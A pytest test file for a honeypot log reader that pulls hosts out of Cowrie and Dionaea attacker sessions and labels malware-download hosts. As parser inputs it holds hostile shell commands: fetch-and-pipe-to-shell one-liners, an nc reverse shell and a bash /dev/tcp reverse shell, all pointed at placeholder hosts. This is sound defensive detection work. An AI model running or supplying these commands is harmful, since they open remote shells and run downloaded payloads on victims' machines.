"""Honeypots: every host is a sighting; a label is one from which a file was to be fetched."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mithra.observe.readers.honeypots import hosts_in_command

TIME = "2026-06-01T12:00:00.584777Z"
NOON = datetime(2026, 6, 1, 12, tzinfo=UTC)


def event(kind: str, **fields: object) -> dict[str, object]:
    """As Cowrie 3.1 writes it."""
    return {
        "session": "f9316498ad85",
        "protocol": "ssh",
        "src_ip": "192.0.2.7",
        "src_port": 49870,
        "dst_ip": "10.0.0.1",
        "dst_port": 2222,
        **fields,
        "eventid": f"cowrie.{kind}",
        "sensor": "sensor-1",
        "uuid": "558b1dca-e80b-11f1-a40a-02fc00000001",
        "timestamp": TIME,
        "message": "what happened",
    }


def fetched(url: str) -> dict[str, object]:
    return event("session.file_download", url=url, outfile="var/x", shasum="29" * 32, duplicate=False)


def lines(*records: object) -> str:
    return "".join(f"{record if isinstance(record, str) else json.dumps(record)}\n" for record in records)


def brief(got) -> list[tuple[str, str, str]]:
    return [(row["indicator"], row["kind"], row["technique"]) for row in got.tables["sightings"]]


def labels(got) -> list[tuple[str, float]]:
    return [(row["name"], row["confidence"]) for row in got.tables["labels"]]


def test_a_session(read):
    got = read(
        lines(
            event("session.connect"),
            event("client.version", version="SSH-2.0-Go"),
            event("login.success", username="root", password="hunter2"),
            event("command.input", input="wget http://Payload.example:44659/bins/x.sh; chmod +x x.sh"),
            fetched("http://Payload.example:44659/bins/x.sh"),
            event("session.file_download.failed", url="tftp://192.0.2.9:69/x.mips", error="timed out"),
            event("command.input", input="cat /dev/null > /dev/tcp/c2.example/4444"),
            event("command.input", input="ping -c 1 google.com"),
            event("direct-tcpip.request", dst_ip="ya.ru", dst_port=80, orig_ip="192.0.2.7"),
            event("session.file_download", destfile="/tmp/x", outfile="var/x", shasum="29" * 32),
            event("log.closed", ttylog="var/lib/cowrie/tty/3a41", size=431),
        )
    )
    assert got.reader == "cowrie"
    assert got.rejects == []
    assert brief(got) == [
        ("192.0.2.7", "connect", "T1595"),
        ("payload.example", "command", "T1059.004"),
        ("payload.example", "download", "T1105"),
        ("192.0.2.9", "download_attempt", "T1105"),
        ("c2.example", "command", "T1059.004"),
        ("google.com", "command", "T1059.004"),
        ("ya.ru", "proxy", "T1090"),
    ]
    assert {(row["sensor"], row["source"], row["seen_at"]) for row in got.tables["sightings"]} == {
        ("sensor-1", "sensor-1", NOON)
    }
    assert got.tables["labels"] == [
        {
            "name": "payload.example",
            "verdict": "nefarious",
            "category": "malware_download",
            "confidence": confidence,
            "known_at": NOON,
            "valid_until": None,
            "source": "sensor-1",
        }
        for confidence in (0.5, 0.9)
    ]


@pytest.mark.parametrize(
    "record",
    [
        event("command.input", input="ping evil.example; nslookup evil.example"),
        event("command.input", input="wget http://evil.example/ -O /dev/null"),
        event("command.input", input="curl evil.example"),
        event("command.input", input="wget https://raw.githubusercontent.com/x/y/main/z.sh"),
        event("direct-tcpip.request", dst_ip="evil.example", dst_port=80),
        fetched("http://evil.example"),
        fetched("http://evil.example/"),
        fetched("http://www.google.com/index.html"),
        fetched("https://pastebin.com/raw/x"),
        fetched("http://cachefly.cachefly.net/10mb.test"),
        fetched("http://192.0.2.1/x.sh"),
        fetched("http://[2001:db8::1]/x.sh"),
    ],
)
def test_a_sighting_that_is_no_label(read, record):
    got = read(lines(record))
    assert len(got.tables["sightings"]) >= 1
    assert got.tables["labels"] == []
    assert got.rejects == []


def test_a_host_is_labelled_once_unless_earlier_or_surer(read):
    url = "http://payload.example/x.sh"
    failed = event("session.file_download.failed", url=url)
    early = {**failed, "timestamp": "2026-05-01T00:00:00Z"}
    got = read(lines(failed, failed, fetched(url), fetched(url), failed, early, early))
    assert [(row["confidence"], row["known_at"].month) for row in got.tables["labels"]] == [
        (0.5, 6), (0.9, 6), (0.5, 5),
    ]  # fmt: skip
    assert len(got.tables["sightings"]) == 7


def test_lookalikes_of_services_are_labelled(read):
    got = read(lines(fetched("http://notgithub.com/x"), fetched("http://github.com.evil.example/x")))
    assert [name for name, _ in labels(got)] == ["notgithub.com", "github.com.evil.example"]


def test_the_callers_word_counts(read):
    got = read(lines(fetched("http://a.example/x")), source="mine", category="botnet", verdict="benign")
    assert [(row["source"], row["sensor"]) for row in got.tables["sightings"]] == [("mine", "sensor-1")]
    [label] = got.tables["labels"]
    assert (label["source"], label["category"], label["verdict"]) == ("mine", "botnet", "benign")


def test_without_a_sensor_it_is_the_files_name(read):
    bare = {key: value for key, value in event("session.connect").items() if key != "sensor"}
    [row] = read(lines(bare), name="cowrie-2026-06-01.json").tables["sightings"]
    assert (row["sensor"], row["source"]) == ("cowrie", "cowrie")


def test_bad_records_are_told_by_line_and_reason(read):
    got = read(
        lines(
            fetched("http://a.example/x"),
            '{"eventid":"cowrie.session.conn',
            {**fetched("http://b.example/x"), "timestamp": "yesterday"},
            {**fetched("http://c.example/x"), "timestamp": "2031-01-01T00:00:00Z"},
            fetched("http://localhost/x"),
            fetched("http://router/x"),
            fetched("http://a..b/x"),
            fetched("http://[bad/x"),
            {"message": "no event"},
            [1],
            {**fetched("x"), "url": {"a": 1}},
            {**event("command.input"), "input": 5},
            {**event("session.connect"), "src_ip": "not an address"},
            "",
            fetched(f"http://{'x' * 300_000}.example/x"),
        )
    )
    assert brief(got) == [("a.example", "download", "T1105")]
    assert labels(got) == [("a.example", 0.9)]
    assert got.rejects == [
        (2, "not_json"),
        (3, "no_date"),
        (4, "date_in_future"),
        (5, "local_name"),
        (6, "local_name"),
        (7, "empty_label"),
        (8, "url"),
        (9, "not_an_event"),
        (10, "not_an_object"),
        (13, "whitespace"),
        (15, "too_long"),
    ]


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("busybox wget evil.example/bot.arm7", {"evil.example": True}),
        ("/bin/busybox wget http://192.0.2.1:80/a -O a.sh;", {"192.0.2.1": True}),
        ("curl -O a.example/x | sh", {"a.example": True}),
        ("curl -O http://u:p@a.example:8080/x|sh", {"a.example": True}),
        ("wget -q -O- 'http://b.example/i.sh' | bash", {"b.example": True}),
        ("(curl -fsSL c.example||wget -qO- c.example)|sh", {"c.example": False}),
        ("tftp 192.0.2.4 -c get x.sh", {"192.0.2.4": True}),
        ("ftpget -v -u anonymous -p anonymous -P 21 d.example a.sh a.sh", {"d.example": True}),
        ("nc c2.example 4444 -e /bin/sh", {"c2.example": False}),
        ("bash -i >& /dev/tcp/192.0.2.5/4444 0>&1", {"192.0.2.5": False}),
        ("wget http://[2001:db8::1]/x", {"[2001:db8::1]": True}),
        ("wget -O x.sh e.example/a.sh f.example/b", {"e.example": True, "f.example": True}),
        ("curl http://$IP/x; wget http://`hostname`/", {}),
        ("echo wget.sh; cat a.sh; ls -la", {}),
    ],
)
def test_hosts_in_commands(command, hosts):
    assert hosts_in_command(command) == hosts


@pytest.mark.parametrize(
    ("url", "host", "labelled"),
    [
        ("http://Payload.Example/X.sh", "payload.example", True),
        ("https://payload.example:8443/a/", "payload.example", True),
        ("http://payload.example//", "payload.example", False),
        ("http://payload.example:8443", "payload.example", False),
        ("http://u:p@payload.example/x", "payload.example", True),
        ("http://payload.example?x=/y", "payload.example", False),
        ("http://payload.example/#x", "payload.example", False),
        ("http://payload.example/x?y=http://other.example/", "payload.example", True),
        ("ftp://payload.example/%20", "payload.example", True),
        ("http://payload.example\\x/y", None, False),
    ],
)
def test_urls_are_read_as_urlsplit_reads_them(read, url, host, labelled):
    got = read(lines(fetched(url)))
    assert [row["indicator"] for row in got.tables["sightings"]] == ([] if host is None else [host])
    assert [row["name"] for row in got.tables.get("labels", [])] == ([host] if labelled else [])


@pytest.mark.parametrize("text", ["wget ", "http://", "a.", "wget a.", "@", "curl -x ", "/dev/tcp/a"])
def test_a_command_of_a_megabyte_takes_no_time(text):
    start = time.process_time()
    hosts_in_command(text * (900_000 // len(text)))
    hosts_in_command("wget " + text * (900_000 // len(text)))
    assert time.process_time() - start < 1


CONNECTION = {"protocol": "smbd", "transport": "tcp", "local_ip": "10.0.0.1", "local_port": 445}
CONNECTION |= {"remote_hostname": "", "remote_ip": "192.0.2.7", "remote_port": 4444, "id": 1}


def incident(origin: str, **data: object) -> dict[str, object]:
    stamp = "2026-06-01T12:00:00.000001"
    return {"timestamp": stamp, "name": "dionaea", "origin": f"dionaea.{origin}", "data": data}


def test_dionaea_incidents(read):
    url = "http://payload.example:8080/x.exe"
    back = {**CONNECTION, "remote_hostname": "c2.example"}
    got = read(
        lines(
            incident("connection.tcp.listen", connection=CONNECTION),
            incident("connection.tcp.accept", connection=CONNECTION),
            incident("module.emu.profile", profile="[]", connection=CONNECTION),
            incident("download.offer", url=url, connection=CONNECTION),
            incident("download.complete", url=url, path="/x", con=CONNECTION),
            incident("download.complete.hash", url=url, md5hash="0" * 32, con=CONNECTION),
            incident("connection.tcp.connect", connection=back),
            incident("connection.free", connection=CONNECTION),
        )
    )
    assert (got.reader, got.rejects) == ("dionaea", [])
    assert brief(got) == [
        ("192.0.2.7", "connect", "T1595"),
        ("payload.example", "download_attempt", "T1105"),
        ("payload.example", "download", "T1105"),
        ("c2.example", "callback", None),
    ]
    assert labels(got) == [("payload.example", 0.5), ("payload.example", 0.9)]
    assert {(row["sensor"], row["seen_at"]) for row in got.tables["sightings"]} == {("dionaea", NOON)}


def test_dionaea_connections(read):
    ends = {"dst_ip": "10.0.0.1", "dst_port": 445, "src_ip": "192.0.2.7", "src_port": 1, "src_hostname": ""}
    records = [
        {
            "connection": {"protocol": "smbd", "transport": "tcp", "type": kind},
            **ends,
            "timestamp": "2026-06-01T12:00:00",
        }
        for kind in ("accept", "reject", "connect", "listen")
    ]
    got = read(lines(*records, {"connection": 5, "src_ip": "192.0.2.8"}, {"x": 1}))
    assert got.reader == "dionaea"
    assert [(row["indicator"], row["kind"]) for row in got.tables["sightings"]] == [
        ("192.0.2.7", "connect"), ("192.0.2.7", "connect"), ("192.0.2.7", "callback"),
    ]  # fmt: skip
    assert got.rejects == [(6, "not_an_event")]


KEYS = ["eventid", "url", "input", "src_ip", "timestamp", "sensor", "origin", "data", "connection"]
EVENTS = ["cowrie.command.input", "cowrie.session.file_download", "dionaea.download.offer", TIME]
ATOMS = st.one_of(st.none(), st.integers(), st.text(max_size=20), st.floats(), st.sampled_from(EVENTS))
VALUES = st.recursive(
    ATOMS,
    lambda inner: st.one_of(st.lists(inner, max_size=2), st.dictionaries(st.text(max_size=5), inner)),
    max_leaves=4,
)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.dictionaries(st.sampled_from(KEYS), VALUES), st.sampled_from(["cowrie", "dionaea"]))
def test_no_record_raises(read, record, format):
    got = read(lines(event("session.connect"), record), format)
    assert {line for line, _ in got.rejects} <= {1, 2}
